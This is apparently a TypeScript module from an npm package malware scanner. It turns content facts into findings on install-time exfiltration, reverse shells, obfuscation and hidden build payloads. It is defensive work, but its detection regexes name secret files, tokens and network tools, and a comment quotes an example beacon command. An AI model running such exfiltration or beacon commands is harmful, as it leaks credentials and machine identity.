/**
 * Rules over ContentFacts. Capabilities are facts; a finding needs a combination that ordinary
 * packages do not have (install time + network + secrets; obfuscation, not minification; build
 * logic reading test data). Severity rises with the combination, never with one capability alone.
 */
import { posix } from 'node:path';
import type { AnalyzerRef, Confidence, Evidence, Finding, Severity } from '../../core/types.js';
import { CONTENT_RULES as R } from './rules.js';
import type { BuildIdiom, Capability, CapabilityKind, ContentFacts, Site } from './types.js';
import { behaviourFindings } from './behaviour/findings.js';

const STRONG_ENV =
  /^(JSON\.stringify|new URLSearchParams|querystring\.stringify|qs\.stringify|Buffer\.from|String|btoa|encodeURIComponent|util\.inspect)\(/;
const STRONG_IDIOMS: ReadonlySet<BuildIdiom> = new Set([
  'tr-swap',
  'grep-binary-marker',
  'decompress-to-shell',
  'decode-to-shell',
  'silenced-decompress',
]);
const THEFT_CATEGORIES = /(ssh|browser-profile|crypto-wallet|chat-token|system-accounts)\)$/;
const ENV_LEAK_IN_SHELL =
  /\b(printenv|env)\b\s*(\||>|\)|$)|\$\{?(NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|AWS_[A-Z_]+)\b|\.npmrc\b|\.ssh\/|\/etc\/passwd/;
/** Machine identity in a command line (the dependency-confusion beacon: `nslookup $(whoami).$(hostname).x.oast.fun`). */
const IDENTITY_IN_SHELL =
  /\$\(\s*(whoami|hostname|id|uname(\s+-\w+)*|pwd)\s*\)|`\s*(whoami|hostname|id|uname(\s+-\w+)*|pwd)\s*`|\$\{?HOSTNAME\b/;
const NET_TOOL_IN_SHELL = /\b(curl|wget|nc|ncat|nslookup|dig|host|ping)\b/;

export function fileEvidence(s: Site, label?: string): Evidence {
  return { kind: 'file', file: s.file, ...(s.line ? { line: s.line } : {}), excerpt: s.excerpt, ...(label ? { label } : {}) };
}

interface Emit {
  (
    rule: string,
    severity: Severity,
    confidence: Confidence,
    title: string,
    evidence: Evidence[],
    explanation: string,
    remediation?: string,
  ): void;
}

export function contentFindings(facts: ContentFacts, subject: string, analyzer: AnalyzerRef): Finding[] {
  const out: Finding[] = [];
  const emit: Emit = (rule, severity, confidence, title, evidence, explanation, remediation) => {
    out.push({
      rule,
      severity,
      confidence,
      subject,
      title,
      evidence: evidence.slice(0, 12),
      explanation,
      ...(remediation ? { remediation } : {}),
      analyzer,
    });
  };
  const sites = (file: string, kind: CapabilityKind): Capability[] => facts.capabilities.filter((c) => c.file === file && c.kind === kind);
  const has = (file: string, kind: CapabilityKind): boolean => (facts.fileCapabilities[file] ?? []).includes(kind);
  const evidenceFor = (file: string, kinds: CapabilityKind[]): Evidence[] =>
    kinds.flatMap((k) => {
      const s = sites(file, k);
      return s.length > 0
        ? s.slice(0, 2).map((c) => fileEvidence(c, k + (c.detail ? `: ${c.detail}` : '')))
        : has(file, k)
          ? [{ kind: 'file' as const, file, label: k, excerpt: `uses ${k}` }]
          : [];
    });
  const installFiles = new Set(facts.installScripts.flatMap((s) => s.files));

  installRules(facts, emit, has, evidenceFor);
  codeRules(facts, emit, has, evidenceFor, installFiles);
  buildRules(facts, emit);
  binaryAndArchiveRules(facts, emit);
  behaviourFindings(facts.behaviour, emit);
  return out;
}

type Has = (file: string, kind: CapabilityKind) => boolean;
type EvidenceFor = (file: string, kinds: CapabilityKind[]) => Evidence[];

/** Install scripts reaching at most this many files are treated as dedicated install code. */
const INSTALL_REACH_SMALL = 12;

function installRules(facts: ContentFacts, emit: Emit, has: Has, evidenceFor: EvidenceFor): void {
  for (const s of facts.installScripts) {
    const scriptEv: Evidence = s.implicit
      ? {
          kind: 'metadata',
          field: s.implicit,
          value: s.command,
          label: `implicit install script (npm runs "${s.command}" when ${s.implicit} exists)`,
        }
      : { kind: 'metadata', field: `scripts.${s.event}`, value: s.command, label: 'install script' };
    const net = s.files.filter((f) => has(f, 'network'));
    const envSer = s.files.filter(
      (f) => facts.capabilities.some((c) => c.file === f && c.kind === 'env-serialize') || has(f, 'env-serialize'),
    );
    const secrets = s.files.filter((f) => has(f, 'fs-sensitive'));
    const shellHits = [...s.idioms, ...facts.buildSignals.filter((b) => s.files.includes(b.file))];
    const installEndpoints = facts.endpoints.filter((e) => s.files.includes(e.file) || e.file === `package.json#scripts.${s.event}`);
    // Secrets with any network tool; machine identity only towards an exfiltration endpoint
    // (a hostname in a download URL is ordinary, a hostname sent to an OAST domain is a beacon).
    const shellLeak =
      (ENV_LEAK_IN_SHELL.test(s.command) && (NET_TOOL_IN_SHELL.test(s.command) || installEndpoints.length > 0)) ||
      (IDENTITY_IN_SHELL.test(s.command) && installEndpoints.some((e) => e.file.startsWith('package.json') && e.category !== 'raw-ip'));
    // A dedicated install script reaches a handful of files; a large tool's postinstall reaches its
    // whole code base, where "uses the network" and "names .npmrc" in unrelated files is ordinary
    // (nx, for one): there the two must meet in the same file.
    const dedicated = s.files.length <= INSTALL_REACH_SMALL;
    const together = net.some((f) => envSer.includes(f) || secrets.includes(f));
    if ((net.length > 0 && (envSer.length > 0 || secrets.length > 0) && (dedicated || together)) || shellLeak) {
      const ev = [
        scriptEv,
        ...net.flatMap((f) => evidenceFor(f, ['network'])),
        ...envSer.flatMap((f) => evidenceFor(f, ['env-serialize'])),
        ...secrets.flatMap((f) => evidenceFor(f, ['fs-sensitive'])),
      ];
      const what =
        envSer.length > 0 || (shellLeak && ENV_LEAK_IN_SHELL.test(s.command))
          ? 'the environment'
          : shellLeak
            ? 'the machine identity (user, host name)'
            : 'credential files';
      emit(
        R.installExfiltration,
        'critical',
        'high',
        `${s.event} script sends ${what} over the network`,
        [...ev, ...installEndpoints.slice(0, 2).map((e) => fileEvidence(e, `endpoint (${e.category}): ${e.host}`))],
        net.length === 0 && shellLeak
          ? `The ${s.event} command line sends ${what} to ${
              installEndpoints
                .map((e) => e.host)
                .slice(0, 2)
                .join(', ') || 'the network'
            } at install time.`
          : `The ${s.event} script runs ${s.files.join(', ') || 'a command'} at install time; that code reaches the network and ${envSer.length > 0 ? 'serialises process.env' : 'reads credential locations'}.`,
        'Do not install this version; rotate any token present on machines that installed it.',
      );
    }
    const dl = shellHits.filter((h) => h.idiom === 'download-exec' || h.idiom === 'decompress-to-shell' || h.idiom === 'decode-to-shell');
    const rev = shellHits.filter((h) => h.idiom === 'reverse-shell');
    if (dl.length > 0 || rev.length > 0) {
      emit(
        R.installDownloadExec,
        rev.length > 0 ? 'critical' : 'high',
        'high',
        `${s.event} script ${rev.length > 0 ? 'opens a reverse shell' : 'downloads or decodes code and runs it'}`,
        [scriptEv, ...[...rev, ...dl].map((h) => fileEvidence(h, h.idiom))],
        `At install time the ${s.event} script ${[...new Set([...rev, ...dl].map((h) => h.detail ?? h.idiom))].join('; ')}.`,
      );
    }
    const kinds: CapabilityKind[] = ['network', 'child-process', 'eval', 'vm'];
    const used = kinds.filter((k) => s.files.some((f) => has(f, k)));
    if (used.length > 0) {
      emit(
        R.installCapabilities,
        'low',
        'high',
        `${s.event} script uses ${used.join(', ')}`,
        [scriptEv, ...s.files.flatMap((f) => evidenceFor(f, used)).slice(0, 6)],
        `Code run by the ${s.event} script uses ${used.join(', ')}. Expected for packages that download prebuilt binaries; review otherwise.`,
      );
    }
  }
}

function codeRules(facts: ContentFacts, emit: Emit, has: Has, evidenceFor: EvidenceFor, installFiles: Set<string>): void {
  const byFile = new Map<string, typeof facts.obfuscation>();
  for (const o of facts.obfuscation) byFile.set(o.file, [...(byFile.get(o.file) ?? []), o]);
  for (const [file, sigs] of byFile) {
    const obf = sigs.filter((s) => s.technique === 'string-array' || s.technique === 'packed-eval' || s.technique === 'jsfuck');
    if (obf.length > 0)
      emit(
        R.obfuscatedCode,
        'high',
        'high',
        `Obfuscated code in ${file} (${[...new Set(obf.map((s) => s.technique))].join(', ')})`,
        obf.map((s) => fileEvidence(s, s.detail)),
        `${file} uses obfuscator output (${obf.map((s) => s.detail).join('; ')}), which minifiers never produce.`,
      );
    const enc = sigs.filter((s) => s.technique === 'encoded-exec');
    if (enc.length > 0)
      emit(
        R.encodedExec,
        installFiles.has(file) ? 'critical' : 'high',
        'high',
        `Decoded data is executed in ${file}`,
        enc.map((s) => fileEvidence(s, s.detail)),
        `${file} decodes base64/hex or decrypted data and passes it to ${enc.map((s) => s.detail).join(', ')}${installFiles.has(file) ? ', at install time' : ''}.`,
      );
    const app = sigs.filter((s) => s.technique === 'appended-loader');
    if (app.length > 0)
      emit(
        R.appendedLoader,
        'high',
        'medium',
        `Loader appended after minified code in ${file}`,
        app.map((s) => fileEvidence(s, s.detail)),
        app[0]!.detail ?? '',
      );
    const bidi = sigs.filter((s) => s.technique === 'bidi-control');
    if (bidi.length > 0)
      emit(
        R.trojanSource,
        'high',
        'high',
        `Bidirectional control characters in ${file}`,
        bidi.map((s) => fileEvidence(s, s.detail)),
        `${file} contains Unicode bidi controls; the code may run differently from how it displays (shown as \\u{...} in the excerpt).`,
      );
    const inv = sigs.filter((s) => s.technique === 'invisible-identifier');
    if (inv.length > 0)
      emit(
        R.invisibleIdentifier,
        'high',
        'high',
        `Invisible characters in identifiers in ${file}`,
        inv.slice(0, 5).map((s) => fileEvidence(s, s.detail)),
        `${file} has identifiers containing invisible characters (shown as \\u{...}).`,
      );
  }
  const endpointsByFile = new Map<string, typeof facts.endpoints>();
  for (const e of facts.endpoints) endpointsByFile.set(e.file, [...(endpointsByFile.get(e.file) ?? []), e]);
  const credentialFiles: { file: string; cats: Capability[]; theft: boolean; exfil: boolean }[] = [];
  for (const [file, kinds] of Object.entries(facts.fileCapabilities)) {
    if (installFiles.has(file) || !kinds.includes('network')) continue;
    const strongEnv = facts.capabilities.some((c) => c.file === file && c.kind === 'env-serialize' && STRONG_ENV.test(c.detail ?? ''));
    const fileEndpoints = (endpointsByFile.get(file) ?? []).filter((e) => e.category !== 'raw-ip');
    if (strongEnv || (kinds.includes('env-serialize') && fileEndpoints.length > 0)) {
      emit(
        R.envExfiltration,
        fileEndpoints.length > 0 ? 'high' : 'medium',
        'medium',
        `${file} serialises process.env and uses the network`,
        [
          ...evidenceFor(file, ['env-serialize', 'network']),
          ...fileEndpoints.slice(0, 2).map((e) => fileEvidence(e, `endpoint (${e.category})`)),
        ],
        `${file} turns the whole environment into a string and also reaches the network${fileEndpoints.length ? `, naming ${fileEndpoints[0]!.host}` : ''}.`,
      );
    }
    if (kinds.includes('fs-sensitive')) {
      const cats = facts.capabilities.filter((c) => c.file === file && c.kind === 'fs-sensitive');
      const theft = cats.filter((c) => THEFT_CATEGORIES.test(c.detail ?? ''));
      // Tools legitimately read their own config (.npmrc, ~/.aws) and talk to their service; only
      // stores that hold other programs' secrets (browsers, wallets, SSH keys, chat tokens) count,
      // or any credential file when the same file names an exfiltration endpoint.
      if (theft.length > 0 || fileEndpoints.length > 0)
        credentialFiles.push({ file, cats, theft: theft.length > 0, exfil: fileEndpoints.length > 0 || kinds.includes('env-serialize') });
    }
  }
  if (credentialFiles.length > 0) {
    const distinct = new Set(credentialFiles.flatMap((c) => c.cats.map((x) => x.detail)));
    // Naming stores next to a network import is not exfiltration: high needs an exfiltration
    // endpoint in the same file (traced flows are the behaviour chains' job).
    const high = credentialFiles.some((c) => c.theft && c.exfil);
    const ev = credentialFiles.slice(0, 4).flatMap((c) => evidenceFor(c.file, ['fs-sensitive', 'network']));
    emit(
      R.credentialAccess,
      high ? 'high' : 'medium',
      'medium',
      `${credentialFiles.length === 1 ? credentialFiles[0]!.file : `${credentialFiles.length} files`} name${credentialFiles.length === 1 ? 's' : ''} credential stores and use${credentialFiles.length === 1 ? 's' : ''} the network`,
      ev,
      `Code that reaches the network refers to ${[...distinct].join(', ')} (${credentialFiles
        .map((c) => c.file)
        .slice(0, 5)
        .join(', ')}).`,
    );
  }
  const eps = facts.endpoints;
  if (eps.length > 0) {
    const notIp = eps.filter((e) => e.category !== 'raw-ip');
    const atInstall = eps.filter((e) => installFiles.has(e.file) || e.file.startsWith('package.json'));
    const sev: Severity = atInstall.some((e) => e.category !== 'raw-ip') ? 'high' : notIp.length > 0 ? 'medium' : 'low';
    const shown = [...atInstall, ...notIp, ...eps].filter((e, i, a) => a.indexOf(e) === i).slice(0, 8);
    emit(
      R.exfilEndpoint,
      sev,
      'medium',
      `Exfiltration-style endpoints: ${[...new Set(shown.map((e) => e.host))].slice(0, 4).join(', ')}`,
      shown.map((e) => fileEvidence(e, `${e.category}: ${e.host}`)),
      `The package names ${eps.length} endpoint(s) of kinds ${[...new Set(eps.map((e) => e.category))].join(', ')}${atInstall.length ? ', some at install time' : ''}.`,
    );
  }
}

function buildRules(facts: ContentFacts, emit: Emit): void {
  const byFile = new Map<string, typeof facts.buildSignals>();
  for (const b of facts.buildSignals) byFile.set(b.file, [...(byFile.get(b.file) ?? []), b]);
  const decoderFiles = new Set<string>();
  const installFiles = new Set(facts.installScripts.flatMap((s) => s.files));
  for (const [file, sigs] of byFile) {
    if (installFiles.has(file)) continue;
    const idioms = new Set(sigs.map((s) => s.idiom));
    const strong = [...idioms].filter((i) => STRONG_IDIOMS.has(i));
    const weak: BuildIdiom[] = [...idioms].filter((i) => i === 'carve' || i === 'eval-computed');
    const runs: BuildIdiom[] = [...idioms].filter((i) => i === 'download-exec' || i === 'reverse-shell');
    let sev: Severity | undefined;
    if (strong.length >= 2 || (strong.length === 1 && weak.length >= 1)) sev = 'high';
    else if (strong.length === 1 || runs.length > 0) sev = 'medium';
    if (!sev) continue;
    if (sev === 'high') decoderFiles.add(file);
    const shown = sigs.filter((s) => STRONG_IDIOMS.has(s.idiom) || runs.includes(s.idiom) || (sev === 'high' && weak.includes(s.idiom)));
    emit(
      R.buildDecoder,
      sev,
      sev === 'high' ? 'high' : 'medium',
      `${file} decodes and runs hidden content (${[...new Set(shown.map((s) => s.idiom))].join(', ')})`,
      shown.map((s) => fileEvidence(s, s.idiom)),
      `${file} chains ${[...new Set(shown.map((s) => s.detail ?? s.idiom))].join('; ')}.`,
    );
  }
  const readByBuild = facts.blobs.filter((b) => b.matchedBy.length > 0 || b.referencedBy.build.some((f) => decoderFiles.has(f)));
  for (const b of readByBuild) {
    emit(
      R.blobReadByBuild,
      'critical',
      'high',
      `${b.file} is extracted by build logic`,
      [
        { kind: 'file', file: b.file, label: `${b.format} data, ${b.size} bytes, entropy ${b.entropy}` },
        ...b.matchedBy.map((m) =>
          fileEvidence(
            m,
            m.file.endsWith('#decoded') ? (m.detail ?? 'named by a decoded payload') : `searches for marker ${m.detail ?? ''}`,
          ),
        ),
        ...b.referencedBy.build
          .filter((f) => decoderFiles.has(f))
          .map((f) => ({ kind: 'file' as const, file: f, label: 'names the file and decodes content' })),
      ],
      `${b.file} (${b.format}) ${
        b.matchedBy.some((m) => !m.file.endsWith('#decoded'))
          ? `contains the marker that ${b.matchedBy
              .filter((m) => !m.file.endsWith('#decoded'))
              .map((m) => `${m.file}:${m.line}`)
              .join(', ')} searches binary files for`
          : b.matchedBy.length
            ? `is named by the payload that build logic decodes (${b.matchedBy.map((m) => m.file).join(', ')})`
            : 'is named by a build file that decodes and runs content'
      }.`,
      'Do not build or install this release; compare the tarball with the tagged sources.',
    );
  }
  const unref = facts.blobs.filter(
    (b) => b.inTestDir && b.referencedBy.source.length === 0 && b.referencedBy.build.length === 0 && !readByBuild.includes(b),
  );
  if (unref.length > 0) {
    const ranked = [...unref].sort((a, b) => b.entropy * Math.log2(b.size + 2) - a.entropy * Math.log2(a.size + 2));
    emit(
      R.unreferencedBlob,
      decoderFiles.size > 0 ? 'medium' : 'low',
      'low',
      `${unref.length} compressed or high-entropy data file(s) that no source file names`,
      ranked
        .slice(0, 10)
        .map((b) => ({ kind: 'file' as const, file: b.file, label: `${b.format}, ${b.size} bytes, entropy ${b.entropy}` })),
      `Data files with no reference from code or build files and no generator in the package${decoderFiles.size > 0 ? '; build files in this package decode content, so these are candidate payload carriers' : ''}. Largest and most random first.`,
    );
  }
}

function escapes(path: string, target: string): boolean {
  if (target.startsWith('/') || /^[a-zA-Z]:/.test(target)) return true;
  return posix.normalize(posix.join(posix.dirname(path), target)).startsWith('..');
}

function binaryAndArchiveRules(facts: ContentFacts, emit: Emit): void {
  for (const b of facts.binaries.filter((x) => x.disguised)) {
    emit(
      R.disguisedExecutable,
      'high',
      'high',
      `${b.file} is a ${b.kind} executable`,
      [{ kind: 'file', file: b.file, label: `${b.kind} magic bytes`, value: b.size }],
      `${b.file} has an extension that promises text or media, but its bytes are a ${b.kind} executable.`,
    );
  }
  const exes = facts.binaries.filter((x) => !x.disguised && (x.kind === 'elf' || x.kind === 'pe' || x.kind === 'mach-o'));
  if (exes.length > 0) {
    emit(
      R.bundledExecutable,
      'low',
      'high',
      `Ships ${exes.length} native executable(s)`,
      exes.slice(0, 8).map((b) => ({ kind: 'file' as const, file: b.file, label: `${b.kind}, ${b.size} bytes` })),
      'Prebuilt executables cannot be reviewed as source.',
    );
  }
  const unsafe = facts.archiveIssues.filter(
    (i) =>
      /absolute path|escapes|drive-letter|NUL byte/.test(i.reason) ||
      (/^(symlink|hardlink) to /.test(i.reason) &&
        escapes(i.path, i.reason.replace(/^(symlink|hardlink) to /, '').replace(/ \(not followed\)$/, ''))),
  );
  if (unsafe.length > 0) {
    emit(
      R.unsafeArchiveEntry,
      'high',
      'high',
      `${unsafe.length} archive entr${unsafe.length === 1 ? 'y' : 'ies'} would escape the package`,
      unsafe.slice(0, 10).map((i) => ({ kind: 'path' as const, label: i.reason, value: i.path })),
      'vigil skipped these entries; a naive extractor would write or link outside the target folder.',
    );
  }
  const stopped = facts.archiveIssues.filter((i) => i.path === '*');
  if (stopped.length > 0)
    emit(
      R.archiveLimit,
      'medium',
      'high',
      'Archive only partly analysed',
      stopped.map((i) => ({ kind: 'text' as const, label: 'limit', value: i.reason })),
      stopped[0]!.reason,
    );
}
